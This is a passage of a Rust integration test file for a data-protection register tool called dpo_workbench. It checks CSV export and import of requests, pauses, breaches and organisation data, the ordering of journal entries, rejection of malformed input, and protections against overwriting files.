    let line = csv.lines().nth(1).unwrap();
    fs::write(&file, csv.replacen(line, &format!("{line} (changed)"), 1)).unwrap();
    let o = import_table(dir.path(), "demo.dpo", "processors", "out/processors.csv");
    ok(&o);
    assert!(
        stderr(&o).contains("inserted 0, updated 1, 18 already there"),
        "{}",
        stderr(&o)
    );
    assert!(journal("processors").contains("(changed)"));
    // A pause that changed is written, and its request's dates follow it.
    // (The demo's dates are days before today: the answered pause is found.)
    let file = dir.path().join("out/request_pauses.csv");
    let csv = fs::read_to_string(&file).unwrap();
    let answered = csv
        .lines()
        .find(|l| !l.ends_with(',') && !l.starts_with("request_id"))
        .unwrap();
    let cells: Vec<&str> = answered.split(',').collect();
    let later = chrono::NaiveDate::parse_from_str(cells[4], "%Y-%m-%d").unwrap()
        + chrono::Duration::days(2);
    fs::write(
        &file,
        csv.replace(answered, &format!("{},{later}", cells[..4].join(","))),
    )
    .unwrap();
    let o = import_table(
        dir.path(),
        "demo.dpo",
        "request_pauses",
        "out/request_pauses.csv",
    );
    ok(&o);
    assert!(
        stderr(&o).contains("inserted 1, updated 0, 2 already there"),
        "{}",
        stderr(&o)
    );
    let after = journal("requests");
    let update = after
        .lines()
        .find(|l| l.contains(&format!("via import: update requests#{}:", cells[0])))
        .unwrap_or_else(|| panic!("{after}"));
    assert!(update.contains("extension_notice_by: '"), "{update}");
}

#[test]
fn a_paused_requests_exported_dates_count_its_open_pause_through_today() {
    use dpo_workbench::store::Register;
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let o = dpo(dir.path(), &["export", "demo.dpo", "--table", "requests"]);
    ok(&o);
    let csv = String::from_utf8(o.stdout).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let exported: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let register = Register::open(&dir.path().join("demo.dpo"), clock()).unwrap();
    let settings = register.deadline_settings().unwrap();
    let zone = register.organisation().unwrap().time_zone;
    let today = dpo_workbench::platform::clock::date_in(clock().now(), &zone);
    let mut paused = 0;
    register
        .for_each_open_request(|row| {
            let line = exported
                .iter()
                .find(|r| r[at("id")] == row.id.to_string())
                .unwrap();
            let d = row.request.deadlines(&settings, today).unwrap();
            if row.request.pauses.iter().any(|p| p.answered_on.is_none()) {
                paused += 1;
                // The stored dates leave the open pause out (unrolled: no weekend hides it).
                assert_ne!(row.extension_notice_by, d.extension_notice_by);
            }
            assert_eq!(
                line[at("due_on")],
                row.request.due(&d).to_string(),
                "{line:?}"
            );
            assert_eq!(
                line[at("deadline")],
                d.one_month_deadline.to_string(),
                "{line:?}"
            );
            assert_eq!(
                line[at("extended_deadline")],
                d.extended_deadline.to_string()
            );
            Ok::<_, dpo_workbench::store::StoreError>(())
        })
        .unwrap();
    assert_eq!(
        paused, 2,
        "the demo has two requests waiting on the data subject"
    );
}

#[test]
fn a_pause_twice_is_refused_and_pauses_left_out_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "request_pauses",
            "-o",
            "p.csv",
        ],
    ));
    let csv = fs::read_to_string(dir.path().join("p.csv")).unwrap();
    let first = csv.lines().nth(1).unwrap().to_string();
    let before = register_bytes(&dir.path().join("demo.dpo"));
    fs::write(dir.path().join("twice.csv"), format!("{csv}{first}\n")).unwrap();
    let o = import_table(dir.path(), "demo.dpo", "request_pauses", "twice.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("line 5, column requested_on")
            && stderr(&o).contains("the same pause is on an earlier line"),
        "{}",
        stderr(&o)
    );
    assert_eq!(register_bytes(&dir.path().join("demo.dpo")), before);
    // A request listed with one pause fewer than it has: the report says so.
    let request = first.split(',').next().unwrap();
    let day = first.split(',').nth(3).unwrap();
    fs::write(
        dir.path().join("more.csv"),
        format!("{csv}{request},,clarification,{day},{day}\n"),
    )
    .unwrap();
    ok(&import_table(
        dir.path(),
        "demo.dpo",
        "request_pauses",
        "more.csv",
    ));
    let o = import_table(dir.path(), "demo.dpo", "request_pauses", "p.csv");
    ok(&o);
    assert!(
        stderr(&o).contains(&format!(
            "request {request}: 1 pause the file does not list was removed"
        )),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_file_from_before_the_new_columns_is_refused_with_the_reason_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let before = register_bytes(&dir.path().join("demo.dpo"));
    fs::write(
        dir.path().join("org.csv"),
        "name,org_number,jurisdiction,time_zone,role,dpo_name,dpo_email,dpo_phone\n\
         Fjordvakt Telemetri AS,924 681 357,NO,Europe/Oslo,both,Ingrid Haugen,personvern@fjordvakt.example,+47 61 00 00 00\n",
    )
    .unwrap();
    let o = import_table(dir.path(), "demo.dpo", "organisation", "org.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let said = stderr(&o);
    assert!(
        said.contains("column address")
            && said.contains("a file from an older version lacks the columns added since"),
        "{said}"
    );
    assert_eq!(
        register_bytes(&dir.path().join("demo.dpo")),
        before,
        "nothing written"
    );
}

#[test]
fn a_breach_row_with_an_unknown_zone_names_only_the_zone() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--table", "breaches", "-o", "b.csv"],
    ));
    let mut reader = csv::Reader::from_path(dir.path().join("b.csv")).unwrap();
    let header = reader.headers().unwrap().clone();
    let zone = header.iter().position(|h| h == "aware_zone").unwrap();
    let mut rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let mut first: Vec<String> = rows[0].iter().map(String::from).collect();
    first[zone] = "Mars/Olympus".into();
    rows[0] = csv::StringRecord::from(first);
    let mut writer = csv::Writer::from_path(dir.path().join("b.csv")).unwrap();
    writer.write_record(&header).unwrap();
    for row in &rows {
        writer.write_record(row).unwrap();
    }
    writer.flush().unwrap();
    let o = import_table(dir.path(), "demo.dpo", "breaches", "b.csv");
    let said = stderr(&o);
    let line_2: Vec<&str> = said
        .lines()
        .filter(|l| l.starts_with("b.csv line 2"))
        .collect();
    assert_eq!(line_2.len(), 1, "{said}");
    assert!(line_2[0].contains("column aware_zone"), "{said}");
}

#[test]
fn a_files_dates_are_read_strictly_not_as_typed_on_a_form() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    for date in ["05/01/2026", "5.1.2026", "today"] {
        fs::write(
            dir.path().join("r.csv"),
            format!(
                "reference,subject_ref,right,received_on,received_at,channel,representative,identity,\
                 identity_requested_on,identity_verified_on,status,extension_reason,extension_notice_sent_on,\
                 closed_on,refusal_reason,informed_of_remedies,notes\n\
                 DSR-2026-0900,C-1,art15_access,{date},,email,no,not_needed,,,in_progress,,,,,no,\n"
            ),
        )
        .unwrap();
        let o = import_table(dir.path(), "demo.dpo", "requests", "r.csv");
        assert_eq!(o.status.code(), Some(2), "{date}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("column received_on") && stderr(&o).contains("YYYY-MM-DD"),
            "{date}: {}",
            stderr(&o)
        );
    }
}

/// An import into an empty register writes under a rollback
/// journal and puts the write-ahead log back when it ends; with the register
/// open in another program (the workbench) SQLite keeps the log, and the
/// import neither waits for that program nor fails.
#[test]
fn an_import_into_an_empty_register_sets_the_log_aside_only_while_alone() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--table", "requests", "-o", "r.csv"],
    ));
    let journal_mode = |name: &str| {
        let header = fs::read(dir.path().join(name)).unwrap();
        (header[18], header[19])
    };
    empty(dir.path(), "alone.dpo");
    ok(&import_table(dir.path(), "alone.dpo", "requests", "r.csv"));
    assert_eq!(journal_mode("alone.dpo"), (2, 2), "the log is back");
    empty(dir.path(), "shared.dpo");
    let held = Register::open(&dir.path().join("shared.dpo"), clock()).unwrap();
    let start = std::time::Instant::now();
    ok(&import_table(dir.path(), "shared.dpo", "requests", "r.csv"));
    assert!(
        start.elapsed() < std::time::Duration::from_secs(3),
        "it did not wait on the other connection: {:?}",
        start.elapsed()
    );
    assert_eq!(journal_mode("shared.dpo"), (2, 2));
    assert_eq!(
        held.count_requests("").unwrap(),
        Register::open(&dir.path().join("alone.dpo"), clock())
            .unwrap()
            .count_requests("")
            .unwrap()
    );
}

/// The rows of a CSV file, header first, as the `csv` crate reads them.
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn write_csv(path: &Path, rows: &[Vec<String>]) {
    let mut w = csv::Writer::from_path(path).unwrap();
    for row in rows {
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
}

/// The register's journal entries after `seq` for `table`: (record, action).
fn journaled(register: &Path, table: &str, after_seq: i64) -> Vec<(i64, String)> {
    let raw = rusqlite::Connection::open(register).unwrap();
    let mut stmt = raw
        .prepare("SELECT record_id, action FROM journal WHERE tbl = ?1 AND seq > ?2 ORDER BY seq")
        .unwrap();
    stmt.query_map(rusqlite::params![table, after_seq], |r| {
        Ok((r.get(0)?, r.get(1)?))
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

/// Gives record `from` of `table` in an exported folder the id `to`, in
/// its own file and in every file's `column` that points at it.
fn renumber(folder: &Path, table: &str, column: &str, (from, to): (&str, &str)) {
    let mut changed = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let own = path.file_stem().is_some_and(|s| s == table);
        let mut rows = csv_rows(&path);
        let Some(at) = rows[0]
            .iter()
            .position(|c| c == if own { "id" } else { column })
        else {
            continue;
        };
        for row in rows.iter_mut().skip(1).filter(|r| r[at] == from) {
            row[at] = to.to_string();
            changed += 1;
        }
        write_csv(&path, &rows);
    }
    assert!(changed > 1, "{table} {from} and what points at it");
}

/// Every trigger of a register, by name, with its SQL.
fn triggers(register: &Path) -> Vec<(String, String)> {
    let raw = rusqlite::Connection::open(register).unwrap();
    let mut stmt = raw
        .prepare("SELECT name, sql FROM sqlite_schema WHERE type = 'trigger' ORDER BY name")
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// An import journals its new requests after writing them, not row by row
/// (`journal::defer_inserts`): the entries must still come in the order of
/// the changes — a request's insert before a later line's change to it,
/// before its pauses and history — new records keep the file's ids, the
/// chain must verify, and the insert trigger must be back.
#[test]
fn an_imports_new_requests_are_journaled_in_the_order_they_were_written() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--all", "-o", "all"],
    ));
    empty(dir.path(), "pristine.dpo");
    let pristine = triggers(&dir.path().join("pristine.dpo"));

    // The whole register: requests, then their pauses and history; an
    // activity and a breach under ids far from the others (as in a register
    // whose early records were deleted), their children following them.
    let folder = dir.path().join("all");
    renumber(&folder, "activities", "activity_id", ("2", "9000"));
    renumber(&folder, "breaches", "breach_id", ("2", "9001"));
    empty(dir.path(), "all.dpo");
    ok(&dpo(dir.path(), &["import", "all.dpo", "--all", "all"]));
    ok(&dpo(dir.path(), &["verify", "all.dpo"]));
    let all = dir.path().join("all.dpo");
    let requests = journaled(&all, "requests", 0);
    let first_insert = |id: i64| requests.iter().position(|e| *e == (id, "insert".into()));
    for (i, (id, action)) in requests.iter().enumerate() {
        assert!(
            first_insert(*id).is_some_and(|at| at <= i),
            "request {id}: {action} before its insert: {requests:?}"
        );
    }
    let raw = rusqlite::Connection::open(&all).unwrap();
    let out_of_order: i64 = raw
        .query_row(
            "SELECT count(*) FROM journal c JOIN journal r
                 ON r.tbl = 'requests' AND r.action = 'insert'
                 AND r.record_id = json_extract(c.after, '$.request_id')
             WHERE c.tbl IN ('request_pauses', 'request_events') AND c.seq < r.seq",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(
        out_of_order, 0,
        "a pause or event journaled before its request"
    );
    assert_eq!(
        triggers(&all),
        pristine,
        "the insert trigger is back as it was"
    );

    // Requests alone, one given an id far ahead of the lines after it, and
    // one line repeated with a change at the end.
    let mut rows = csv_rows(&dir.path().join("all").join("requests.csv"));
    let column = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    let (id, subject) = (column("id"), column("subject_ref"));
    assert!(rows.len() > 6, "the demo has requests enough");
    let ids: Vec<i64> = rows[1..].iter().map(|r| r[id].parse().unwrap()).collect();
    assert_eq!(ids, (1..=ids.len() as i64).collect::<Vec<_>>());
    rows[4][id] = "9000".into();
    let mut again = rows[5].clone();
    again[subject] = "Changed on a later line".into();
    rows.push(again);
    write_csv(&dir.path().join("r.csv"), &rows);
    empty(dir.path(), "some.dpo");
    let some = dir.path().join("some.dpo");
    let head = journaled(&some, "organisation", 0).len() as i64;
    ok(&import_table(dir.path(), "some.dpo", "requests", "r.csv"));
    ok(&dpo(dir.path(), &["verify", "some.dpo"]));
    let mut expected: Vec<(i64, String)> = Vec::new();
    let mut entry = |id: i64, action: &str| expected.push((id, action.to_string()));
    for n in [1, 2, 3, 9000].into_iter().chain(5..=ids.len() as i64) {
        entry(n, "insert");
    }
    entry(5, "update");
    assert_eq!(journaled(&some, "requests", head), expected);
    assert_eq!(triggers(&some), pristine);
}

/// A new request whose reference another has (in the register or on an
/// earlier line) is refused by the register's unique index, with the same
/// words as a look-up gave, its line named; nothing is written.
#[test]
fn a_reference_used_twice_in_a_file_is_refused_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--table", "requests", "-o", "r.csv"],
    ));
    let mut rows = csv_rows(&dir.path().join("r.csv"));
    let reference = rows[0].iter().position(|c| c == "reference").unwrap();
    let taken = rows[1][reference].clone();
    rows[3][reference] = taken.clone();
    write_csv(&dir.path().join("r.csv"), &rows);
    empty(dir.path(), "empty.dpo");
    let before = register_bytes(&dir.path().join("empty.dpo"));
    let o = import_table(dir.path(), "empty.dpo", "requests", "r.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    // The line the third request starts on (its notes may span lines).
    let starts = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(dir.path().join("r.csv"))
        .unwrap()
        .records()
        .nth(3)
        .unwrap()
        .unwrap()
        .position()
        .unwrap()
        .line();
    let line = format!("line {starts}");
    assert!(
        stderr(&o).contains(&format!("{taken} is already used by another request"))
            && stderr(&o).contains("column reference"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains(&line), "{line}: {}", stderr(&o));
    assert_eq!(register_bytes(&dir.path().join("empty.dpo")), before);
}

/// A new request given to the import with its pauses (no file does: pauses
/// come from their own file) is journaled before them, and the register
/// verifies: the request's deferred entry may not come after its pauses'.
#[test]
fn a_new_request_with_pauses_is_journaled_before_them() {
    use dpo_workbench::domain::request::{PauseKind, Request, RequestPause};
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "empty.dpo");
    let path = dir.path().join("empty.dpo");
    let day = |d: &str| d.parse().unwrap();
    {
        let mut r = Register::open(&path, clock()).unwrap();
        let mut tx = r.begin_import().unwrap();
        let request = |reference: &str, pauses: Vec<RequestPause>| Request {
            reference: reference.into(),
            subject_ref: "Customer 1".into(),
            received_on: day("2026-11-02"),
            pauses,
            ..Default::default()
        };
        tx.request(Some(1), &request("DSR-2026-0001", Vec::new()))
            .unwrap();
        let pause = RequestPause {
            kind: PauseKind::Identity,
            requested_on: day("2026-11-03"),
            answered_on: Some(day("2026-11-05")),
        };
        tx.request(Some(2), &request("DSR-2026-0002", vec![pause]))
            .unwrap();
        tx.request(Some(3), &request("DSR-2026-0003", Vec::new()))
            .unwrap();
        let finished = tx.finish(true, day("2026-11-23")).unwrap();
        assert!(finished.errors.is_empty(), "{:?}", finished.errors.len());
    }
    ok(&dpo(dir.path(), &["verify", "empty.dpo"]));
    let requests = journaled(&path, "requests", 0);
    assert_eq!(
        requests,
        [(1, "insert"), (2, "insert"), (2, "update"), (3, "insert")]
            .map(|(id, action)| (id, action.to_string()))
    );
    let raw = rusqlite::Connection::open(&path).unwrap();
    let order: Vec<String> = raw
        .prepare("SELECT tbl || ' ' || action FROM journal WHERE tbl IN ('requests', 'request_pauses') ORDER BY seq")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(
        order,
        [
            "requests insert",
            "requests insert",
            "requests update",
            "request_pauses insert",
            "requests insert"
        ]
    );
}

/// A table's export never replaces a file unasked, and a register never.
#[test]
fn a_table_export_does_not_write_over_a_file_and_never_over_a_register() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    empty(dir.path(), "other.dpo");
    // A register under another name (its own is refused for its ending).
    fs::copy(dir.path().join("other.dpo"), dir.path().join("other.db")).unwrap();
    let other = register_bytes(&dir.path().join("other.db"));
    let export = |to: &str, force: bool| {
        let mut args = vec!["export", "demo.dpo", "--table", "processors", "-o", to];
        if force {
            args.push("--force");
        }
        dpo(dir.path(), &args)
    };
    for force in [false, true] {
        for target in ["demo.dpo", "other.db"] {
            let o = export(target, force);
            assert_eq!(o.status.code(), Some(2), "{target} {force}");
            let said = stderr(&o);
            let refused = said.contains("is a register: an export never replaces one")
                || said.contains("would be CSV text under a register's name");
            assert!(refused, "{said}");
        }
    }
    assert_eq!(register_bytes(&dir.path().join("other.db")), other);
    ok(&dpo(dir.path(), &["info", "demo.dpo"]));
    fs::write(dir.path().join("p.csv"), "mine\n").unwrap();
    let o = export("new.dpo", true);
    assert!(
        stderr(&o).contains("new.dpo would be CSV text under a register's name"),
        "{}",
        stderr(&o)
    );
    assert!(!dir.path().join("new.dpo").exists());
    let o = export("p.csv", false);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("p.csv exists already: name a new file (--force replaces it)"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        fs::read_to_string(dir.path().join("p.csv")).unwrap(),
        "mine\n"
    );
    // An export killed half-way left its rows under a hidden name (a
    // process id that no longer runs): the next export into the folder
    // removes them.
    // One written to lately may be another machine's, still running.
    let stale = dir.path().join(".q.csv.4194303-abcdef012345.partial");
    let recent = dir.path().join(".r.csv.4194302-abcdef012345.partial");
    for file in [&stale, &recent] {
        fs::write(file, "id,name\n1,Private\n").unwrap();
    }
    let touched = Command::new("touch")
        .args(["-d", "2020-01-01 00:00"])
        .arg(&stale)
        .status()
        .unwrap();
    assert!(touched.success());
    ok(&export("p.csv", true));
    assert!(!stale.exists(), "a killed export's rows were left behind");
    assert!(recent.exists(), "an export written to lately was taken");
    assert!(fs::read_to_string(dir.path().join("p.csv"))
        .unwrap()
        .starts_with("id,name,"));
}
